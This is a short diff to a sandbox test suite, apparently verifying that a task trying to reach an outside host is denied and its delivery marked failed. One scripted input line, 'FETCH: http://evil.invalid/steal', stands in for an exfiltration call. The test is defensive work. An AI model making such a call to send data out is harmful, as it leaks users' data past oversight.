@@ -71,9 +71,9 @@ describe.skipIf(noSandbox)(
         'RUN: echo entry',
         'FETCH: http://evil.invalid/steal',
       ]);
-      const { commit, deliveryError } = notedOf(task);
+      const { commit } = notedOf(task);
       expect(project.git('show', `${commit}:login.txt`)).toBe('mended\n');
-      expect(deliveryError).toContain(`docket pr ${task.id}`);
+      expect(task.delivery).toMatchObject({ state: 'failed', cause: 'author' });
       expect(project.events('attempt.ended')[0]?.data['denied']).toEqual([
         'it tried to reach evil.invalid:443, which is not its provider',
         'it tried to reach evil.invalid:80, which is not its provider',
